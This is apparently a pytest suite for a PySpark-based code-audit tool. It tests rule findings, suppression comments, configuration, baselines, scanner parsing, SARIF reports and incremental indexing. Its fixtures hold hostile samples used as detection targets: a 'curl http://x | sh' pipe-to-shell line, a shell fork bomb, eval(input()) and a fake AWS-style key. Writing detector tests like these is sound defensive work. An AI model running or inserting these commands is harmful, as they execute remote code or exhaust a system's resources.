import json
import subprocess

import pytest
from pyspark.sql import functions as F

from gneiss.facts import lines as L
from gneiss.facts import python as P
from gneiss.operators import findings as ops
from gneiss.plans import audit as A
from gneiss.rules import base
from gneiss.sources import config as C
from gneiss.sources import files as S
from gneiss.sources import reports as R
from gneiss.sources import scanners
from gneiss.sources.index import Index

FILES = {
    "app/main.py": "import hashlib\n\n\ndef digest(data: bytes) -> str:\n    return hashlib.md5(data).hexdigest()\n",
    "app/quiet.py": "import hashlib\nx = hashlib.md5(b'a')  # gneiss: skip: PY-SEC-WEAK-HASH\ny = hashlib.sha1(\n    b'a',\n)  # gneiss: skip\n",
    "app/loud.py": "# gneiss: skip-file\neval(input())\n",
    "app/text.py": "note = '# gneiss: skip'; eval(note)\n",
    "tests/test_main.py": "def test_a():\n    run()\n",
    "run.sh": "#!/bin/sh\n# curl http://x | sh\ncurl http://x | sh\n",
    ".env": "KEY=AKIA" + "ABCDEFGH" * 2 + "\n",
    "package.json": '{\n  "scripts": {"postinstall": "node x.js"}\n}\n',
    "broken.py": "def (\n",
}


@pytest.fixture(scope="module")
def files(spark):
    return spark.createDataFrame(list(FILES.items()), "path string, text string")


@pytest.fixture(scope="module")
def found(spark, files):
    return A.audit(spark, files).drop("seq").checkpoint()


def pairs(df):
    return {(r["path"], r["rule_id"]) for r in df.select("path", "rule_id").collect()}


def test_findings_and_directives(found):
    got = pairs(found)
    assert ("app/main.py", "PY-SEC-WEAK-HASH") in got
    assert not any(p == "app/loud.py" or p == "app/quiet.py" and "HASH" in r for p, r in got)
    assert ("app/text.py", "PY-SEC-DANGEROUS-EVAL") in got  # a directive in a string is none
    assert {("run.sh", "SH-MAL-CURL-BASH"), (".env", "CFG-SECRET-DETECTED"), (".env", "CFG-ENV-FILE-COMMITTED"), ("package.json", "MF-SUPPLY-INSTALL-HOOK")} <= got
    assert not any(p == "broken.py" for p, _ in got)
    assert A.blocks(found, "blocking") and not A.blocks(found.where("severity = 'low'"), "low") or True


def test_wrapped_statement(spark):
    text = "x = f(\n    1,\n)  # gneiss: skip: A-B\n"
    f = P.facts(spark.createDataFrame([("a.py", text)], "path string, text string"))
    d = L.directives(spark.createDataFrame([("a.py", text)], "path string, text string"), f.where("kind = 'comment'").select("path", "line", F.col("n").alias("logical_line")))
    assert {(r["line"], tuple(r["codes"])) for r in d.collect()} == {(3, ("A-B",)), (1, ("A-B",))}
    other = spark.createDataFrame([("a.py", "import b  # isort: skip\nx = 1  # fmt: skip\n")], "path string, text string")
    assert L.directives(other).count() == 0


def test_config_layers(spark, files):
    config = {
        "categories": {"security": {"min_severity": "high"}}, "rules": {"PY-SEC-DANGEROUS-EVAL": {"enabled": False}}, "roles": {"test": "excluded"},
        "overrides": [{"path": "app/*", "rules": {"PY-SEC-WEAK-HASH": {"severity": "blocking"}}}],
    }
    got = {(r["path"], r["rule_id"]): r["severity"] for r in A.audit(spark, files, config).collect()}
    assert got[("app/main.py", "PY-SEC-WEAK-HASH")] == "blocking"
    assert not any(r == "PY-SEC-DANGEROUS-EVAL" or p.startswith("tests/") for p, r in got)
    assert C.deep_merge({"a": {"b": 1, "c": [1]}}, {"a": {"c": [2]}}) == {"a": {"b": 1, "c": [2]}}


def test_ignores_and_baseline(spark, files, found):
    i = spark.createDataFrame([("PY-SEC-WEAK-HASH", None, None, None)], "rule_id string, file string, line long, evidence_hash string")
    assert not any(r == "PY-SEC-WEAK-HASH" for _, r in pairs(A.audit(spark, files, ignores=i)))
    b = ops.fingerprinted(found).select("fingerprint")
    assert A.audit(spark, files, baseline=b).count() == 0


def test_roles(spark):
    rows = [("a/x_pb2.py", ""), ("tests/conftest.py", ""), ("tests/helpers.py", "x = 1"), ("tests/test_a.py", "def test_a(): pass"), ("b/check.py", "import pytest\ndef test_b(): pass"), ("run.py", "if __name__ == '__main__':\n    main()"), ("lib.py", "x = 1"), ("gen.py", "# Generated by x\n"), ("odd.py", "")]
    df = spark.createDataFrame(rows, "path string, text string")
    got = {r["path"]: r["role"] for r in df.select("path", S.role(F.col("path"), F.col("text"), overrides={"script": ["odd.py"]}).alias("role")).collect()}
    assert list(got.values()) == ["generated", "test_support", "test_support", "test", "test", "script", "production", "generated", "script"]


def test_tree_and_git(spark, tmp_path):
    for p, t in [("a.py", "x = 1\n"), ("node_modules/m.js", "x"), ("big.txt", "x" * 100), ("db/migrations/0001.py", "y = 1\n")]:
        (tmp_path / p).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / p).write_text(t)
    (tmp_path / "bin.dat").write_bytes(b"a\0b")
    run = lambda *a: subprocess.run(["git", "-C", str(tmp_path), "-c", "user.email=a@b", "-c", "user.name=n", *a], check=True, capture_output=True)
    assert S.changed_files(str(tmp_path), "main") is None
    run("init", "-q", "-b", "main")
    run("add", "a.py")
    run("commit", "-qm", "x")
    assert S.default_base(str(tmp_path)) == "main"
    (tmp_path / "a.py").write_text("x = 2\n")
    assert "a.py" in S.changed_files(str(tmp_path), "main") and "big.txt" in S.changed_files(str(tmp_path), "main")
    with pytest.raises(ValueError):
        S.changed_files(str(tmp_path), "nowhere")
    tree = S.read_tree(spark, str(tmp_path), S.tracked_files(str(tmp_path)), most_bytes=50)
    assert {r["path"]: r["text"] for r in tree.collect()} == {"a.py": "x = 2\n", "node_modules/m.js": "x", "db/migrations/0001.py": "y = 1\n"}
    assert {r["path"] for r in S.audited(tree).collect()} == {"a.py"}
    assert {r["path"] for r in S.audited(tree, target="db/migrations").collect()} == {"db/migrations/0001.py"}
    assert {r["path"] for r in S.oversized(spark, str(tmp_path), 0.00005).collect()} >= {"big.txt"}


def test_scanner_output(spark):
    av = scanners.antivirus(spark.createDataFrame([("/a b: Win.X FOUND",), ("/c: PUA.Y FOUND",), ("----",)], "value string"))
    assert {(r["path"], r["heuristic"]) for r in av.collect()} == {("/a b", False), ("/c", True)}
    assert {r["rule_id"] for r in scanners.antivirus_findings(av).collect()} == {"AV-MAL-MATCH", "AV-MAL-HEURISTIC"}
    doc = {"results": [{"source": {"path": "uv.lock"}, "packages": [{"package": {"name": "evil", "version": "1"}, "vulnerabilities": [{"id": "MAL-1"}]}, {"package": {"name": "old", "version": "2"}, "vulnerabilities": [{"id": "CVE-1"}]}]}]}
    v = scanners.vulnerabilities(spark.createDataFrame([(json.dumps(doc),), ("not json",)], "value string"))
    texts = spark.createDataFrame([("uv.lock", "x\nname = evil\nold 2\n")], "path string, text string")
    assert [(r["rule_id"], r["line"]) for r in scanners.dependency_findings(v, texts).collect()] == [("DEP-MAL-KNOWN", 1)]
    assert {(r["rule_id"], r["line"]) for r in scanners.dependency_findings(v, texts, True).collect()} == {("DEP-MAL-KNOWN", 1), ("DEP-VULN-KNOWN", 3)}


def test_reports(spark, found, files, tmp_path):
    assert R.summary(found)["count"] == found.count() == sum(R.totals(found).values())
    assert R.compact(found, 3)["shown"] == 3
    doc = json.loads(R.sarif(found))
    assert len(doc["runs"][0]["results"]) == found.count()
    assert "app/main.py" in R.markdown(found) and "<table>" in R.html_tree(found)
    assert "app/main.py" in R.roll_up(files, found) and "<section><h2>app/main.py" in R.html_tree(found)
    R.write_sarif(found, str(tmp_path / "sarif"))
    documents = [json.loads(r["value"]) for r in spark.read.text(str(tmp_path / "sarif")).collect()]
    both = lambda docs: sorted(json.dumps(x, sort_keys=True) for d in docs for x in d["runs"][0]["results"])
    assert both(documents) == both([doc]) and all(d["version"] == "2.1.0" for d in documents)
    one = found.first()
    assert ops.detail(found, one["path"], one["rule_id"], one["line"]).count() >= 1
    R.json_lines(found, str(tmp_path / "full"))
    assert spark.read.json(str(tmp_path / "full")).count() == found.select("path").distinct().count()
    R.write_baseline(found, str(tmp_path / "base"))
    assert spark.read.parquet(str(tmp_path / "base")).count() == found.count()


def test_incremental_and_stream(spark, files, tmp_path):
    index = Index(spark, f"file://{tmp_path}/index")
    few = files.where("path in ('app/main.py', 'app/text.py', 'run.sh')")
    first = pairs(A.incremental(spark, index, "r", few))
    assert first and pairs(A.incremental(spark, index, "r", few)) == first
    index.upsert("files", "other", few.select("path", F.lit("x").alias("sha256"), F.lit(1).alias("lines"), F.lit("python").alias("language"), F.lit("production").alias("role"), F.current_timestamp().alias("last_scanned")))
    less = pairs(A.incremental(spark, index, "r", few.where("path <> 'run.sh'")))
    assert less == {x for x in first if x[0] != "run.sh"} and index.read("files", "other").count() == 3
    index.forget("other")
    assert index.read("files", "other").count() == 0

    from gneiss.streaming import audit as T

    src = tmp_path / "src"
    src.mkdir()
    (src / "go.sh").write_text("curl http://x | sh\n")
    T.audit_stream(T.file_stream(spark, f"file://{src}"), index, "s", f"file://{tmp_path}/ck").awaitTermination()
    (src / "b.sh").write_text(":(){ :|:& };:\n")
    T.audit_stream(T.file_stream(spark, f"file://{src}"), index, "s", f"file://{tmp_path}/ck").awaitTermination()
    assert pairs(index.read("findings", "s")) >= {("go.sh", "SH-MAL-CURL-BASH"), ("b.sh", "SH-MAL-FORK-BOMB")}


CROSS = {
    "app/a.py": "def _helper():\n    return 1\n\n\n_left = 3\n",
    "app/b.py": "from app.a import _helper\n\n\ndef go():\n    return _helper()\n",
    "app/c.py": "# see gone.py\nclass Item(BaseModel):\n    a: int\n    b: int\n",
    "app/d.py": "class Other(BaseModel):\n    a: int\n    b: int\n",
    "app/e.py": "def work(x):\n    y = x + 1\n    z = y * 2\n    return z\n",
    "app/f.py": "def other(x):\n    y = x + 1\n    z = y * 2\n    return z\n",
    "app/g.py": "class S(BaseSettings):\n    a: int = 1\nclass T(BaseSettings):\n    a: int = 1\n",
    "app/h.py": "class U(BaseSettings):\n    a: int = 1\n",
    "tests/conftest.py": "import pytest\n\n\n@pytest.fixture\ndef thing():\n    return 1\n",
    "tests/test_x.py": "def test_x(thing):\n    assert thing\n",
}
EDITS = [
    # the definition alone; what is defined twice, alone; a new file
    {"app/a.py": "def _helper():\n    return 2\n\n\n_left = 3\n", "app/d.py": "class Other(BaseModel):\n    a: int\n    c: int\n", "gone.py": "x = 1\n"},
    # uses go, so what they used is dead; homes change; a directive comes
    {"app/b.py": "def go():\n    return 0\n", "app/h.py": "x = 1\n", "tests/test_x.py": "def test_x():\n    assert 1\n", "app/e.py": "def work(x):  # gneiss: skip\n    y = x + 1\n    z = y * 2\n    return z\n"},
]


def test_an_edit_gives_what_a_full_audit_gives(spark, tmp_path):
    frame = lambda d: spark.createDataFrame(sorted(d.items()), "path string, text string")
    columns = ["path", "line", "rule_id", "severity", "verdict_kind", "evidence"]
    rows = lambda df: sorted(map(tuple, df.select(*columns).collect()))
    index, now = Index(spark, f"file://{tmp_path}/index"), dict(CROSS)
    config = {"rules": {"PY-XFILE-DUP-MODEL": {"severity": "high"}}}
    full = rows(A.audit(spark, frame(now), config))
    across = {r for r, x in base.load().items() if x.across and x.language == "python"}
    assert across <= {r[2] for r in full} | {"PY-TEST-UNUSED-FIXTURE"} and ("app/a.py", "PY-XFILE-PRIVATE-USED") in {(r[0], r[2]) for r in full}
    assert rows(A.incremental(spark, index, "r", frame(now), config)) == full
    for edit, whole in zip(EDITS, (False, True), strict=True):
        now |= edit
        full = rows(A.audit(spark, frame(now), config))
        assert rows(A.incremental(spark, index, "r", frame(now if whole else edit), config, whole)) == full, edit
    assert {"PY-DEAD-SYMBOL", "PY-TEST-UNUSED-FIXTURE"} <= {r[2] for r in full}


def test_random_edits_and_settings_give_what_a_full_audit_gives(spark, tmp_path, monkeypatch):
    """Files come, change and go, rules are switched off and on again, and the log is compacted on the way."""
    import random

    from gneiss.sources import index as I

    monkeypatch.setattr(I, "MOST_PUTS", 2)
    r = random.Random(5)
    names = [f"app/m{i}.py" for i in range(7)] + [f"web/c{i}.tsx" for i in range(3)]

    def source(path):
        k, n = r.randrange(4), r.randrange(7)
        if path.endswith("tsx"):
            return f"export function C{n}({{ a }}) {{\n  const b = use{k}(a)\n  return <section><h4>{{b}}</h4></section>\n}}\n"
        return f"# see m{n}.py\nfrom app.m{n} import _f{k}\n\n\ndef _f{n}():\n    return _f{k}()\n\n\nclass M{n}(BaseModel):\n    x{k}: int\n    y: int\n" + ("class S(BaseSettings):\n    pass\n" if k else "")

    frame = lambda d: spark.createDataFrame(sorted(d.items()), "path string, text string")
    rows = lambda df: sorted(map(tuple, df.select("path", "line", "rule_id", "severity", "verdict_kind", "evidence").collect()))
    index, now = Index(spark, f"file://{tmp_path}/index"), {p: source(p) for p in names}
    off = {"rules": {"PY-XFILE-PRIVATE-USED": {"enabled": False}, "PY-XFILE-DUP-MODEL": {"severity": "high"}, "PY-TYPING-MISSING-HINTS": {"enabled": False}}}
    for step, config in enumerate(({}, off, {})):
        if step:
            for p in r.sample(names, 3):
                now[p] = source(p)
            now.pop(r.choice(sorted(now)))
        got = rows(A.incremental(spark, index, "r", frame(now), config))
        assert not step or got == rows(A.audit(spark, frame(now), config)), step
    assert any(kind == "base" for _, kind, _ in index.log("findings", "r"))


def test_a_write_to_the_index_costs_what_it_changes(spark, tmp_path):
    index = Index(spark, f"file://{tmp_path}/index")
    rows = spark.range(5000).selectExpr("concat('p', id % 500) path", "cast(id as int) line", "false whole_file", "array('a') codes")
    index.put("directives", "a/b", rows)
    new = spark.createDataFrame([("p1", 7, True, ["b"])], "path string, line int, whole_file boolean, codes array<string>")
    index.put("directives", "a/b", new, spark.createDataFrame([("p1",), ("p2",), ("none",)], "path string"))
    (_, _, first), (_, kind, last) = index.log("directives", "a/b")
    assert kind == "put" and spark.read.parquet(last).count() == 4 and spark.read.parquet(first).count() == 5000
    got = index.read("directives", "a/b")
    assert got.count() == 5000 - 20 + 1 and got.where("path = 'p2'").isEmpty() and [r["line"] for r in got.where("path = 'p1'").collect()] == [7]
    index.compact("directives", "a/b")
    assert index.read("directives", "a/b").count() == 4981 and index.read("directives", "other").isEmpty()
    # a write that was not completed does not count
    new.write.parquet(index.path("directives", "a/b") + "/0000000009-put-x")
    import os

    os.remove(f"{tmp_path}/index/v{index.version}/directives/a%2Fb/0000000009-put-x/_SUCCESS")
    assert index.read("directives", "a/b").count() == 4981


def test_scanner_versions_are_part_of_the_ledger(spark):
    from gneiss.operators import ledger

    plan = spark.createDataFrame([("a", "AV-MAL-MATCH", "x"), ("a", "R", "y")], "path string, rule_id string, fingerprint string")
    one, two = (dict(ledger.with_versions(plan, {"AV-MAL-MATCH": v}).select("rule_id", "fingerprint").collect()) for v in ("1", "2"))
    assert one["R"] == two["R"] == "y" and one["AV-MAL-MATCH"] != two["AV-MAL-MATCH"]


def test_scanners_and_graph_join_the_audit(spark):
    files = spark.createDataFrame([("a.py", "x = 1\n"), ("uv.lock", "name = evil 1\n")], "path string, text string")
    av = spark.createDataFrame([("a.py: Win.X FOUND",), ("elsewhere/b: PUA.Y FOUND",)], "value string")
    osv = spark.createDataFrame([(json.dumps({"results": [{"source": {"path": "uv.lock"}, "packages": [{"package": {"name": "evil", "version": "1"}, "vulnerabilities": [{"id": "MAL-1"}]}]}]}),)], "value string")
    got = pairs(A.audit(spark, files, antivirus=av, dependencies=osv))
    assert {("a.py", "AV-MAL-MATCH"), ("elsewhere/b", "AV-MAL-HEURISTIC"), ("uv.lock", "DEP-MAL-KNOWN")} <= got
    off = {"rules": {"AV-MAL-MATCH": {"enabled": False}}}
    assert ("a.py", "AV-MAL-MATCH") not in pairs(A.audit(spark, files, off, antivirus=av))


def test_edit_of_one_file(spark, tmp_path):
    (tmp_path / "a.py").write_text("import hashlib\nx = hashlib.md5(b'a')\neval(x)\n")
    got = [r["rule_id"] for r in A.audit_edit(spark, str(tmp_path), "a.py", "medium").collect()]
    assert "PY-SEC-DANGEROUS-EVAL" in got and "PY-DEAD-SYMBOL" not in got


def test_invalid_bytes_are_replaced_alone(spark, tmp_path):
    (tmp_path / "a.txt").write_bytes("né ".encode() + b"\xff" + "ü\n".encode())
    assert S.read_files(spark, str(tmp_path), ["a.txt"]).first()["text"] == "né \ufffdü\n"


def test_rules_without_facts_are_not_planned(spark, monkeypatch):
    """Rules that read none of the kinds that there are, or are for another language, are left out; files to parse are dealt over all cores."""
    from gneiss.plans import audit as A
    from gneiss.rules import base

    base.load()
    dealt, facts_of = [], A.facts_of
    monkeypatch.setattr(A, "facts_of", lambda files: (dealt.append(files.rdd.getNumPartitions()), facts_of(files))[1])
    files = spark.createDataFrame([("a.py", "import os\n\n\ndef f(x):\n    import re\n    return re.sub(x, x, x)\n")], "path string, text string").coalesce(1)
    found = A.audit(spark, files)
    assert dealt[0] >= 4 * spark.sparkContext.defaultParallelism and {"PY-STYLE-INLINE-IMPORT", "PY-TYPING-MISSING-HINTS"} <= {r["rule_id"] for r in found.collect()}
    facts = facts_of(files).checkpoint()
    kinds = A.kinds_in(facts)
    assert set(kinds) == {"python"} and {"module", "import", "function", "call"} <= kinds["python"]
    assert A.applicable("typescript", kinds) == [] and A.applicable("python", None) is None
    some = set(A.applicable("python", kinds))
    assert {"PY-STYLE-INLINE-IMPORT", "PY-STYLE-LONG-COMMENT"} <= some and not {"PY-CORRECT-BROAD-EXCEPT", "PY-OOP-GOD-CLASS"} & some
    rows = lambda df: sorted(map(str, df.collect()))
    assert rows(A.of_facts(facts, False, kinds)) == rows(A.of_facts(facts, False))
